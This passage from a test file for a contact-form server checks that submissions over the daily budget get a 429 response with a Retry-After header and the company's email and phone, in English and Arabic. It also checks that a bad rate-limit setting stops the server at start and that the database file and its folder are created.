      const held = await heldReasons(limited.dbPath);
      expect(held).toEqual(['manyPosts', 'manyPosts']);
      // Five leads today: the network's budget is spent. Refused, saying how to reach the company instead.
      const refused = await postJson(limited.baseUrl, '/api/contact', contactBody());
      expect(refused.status).toBe(429);
      expect(await refused.json()).toMatchObject({ error: 'overBudget' });
      const retryAfter = Number(refused.headers.get('retry-after'));
      expect(retryAfter).toBeGreaterThan(86_000);
      expect(retryAfter).toBeLessThanOrEqual(86_400);
      const page = await postForm(limited.baseUrl, '/api/contact', form);
      expect(page.status).toBe(429);
      const text = await page.text();
      expect(text).toContain(details.email);
      expect(text).toContain(details.phone);
      const arabic = await postForm(limited.baseUrl, '/api/contact?lang=ar', form);
      expect(arabic.status).toBe(429);
      const arabicText = await arabic.text();
      expect(arabicText).toContain('يرجى مراسلتنا على');
      expect(arabicText).toContain(details.phone);
      const store = openSqliteStore(limited.dbPath, { create: false });
      expect(await store.count()).toBe(5);
      await store.close();
    } finally {
      await limited.stop();
    }
  });

  test('a malformed setting stops the server at start, naming the variable', async () => {
    await expect(startServer({ dbPath: path.join(dir, 'never.db'), env: { SUBMISSIONS_RATE_LIMIT: 'ten' } })).rejects.toThrow(
      /exited \(1\)[\s\S]*SUBMISSIONS_RATE_LIMIT/,
    );
  });

  test('the database file is created at start, with its folder', async () => {
    const nested = path.join(dir, 'a', 'b', 'fresh.db');
    const fresh = await startServer({ dbPath: nested });
    try {
      expect(fs.existsSync(nested)).toBe(true);
      expect(fresh.output()).toContain(`Submissions are stored in ${nested}`);
    } finally {
      await fresh.stop();
    }
  });
});
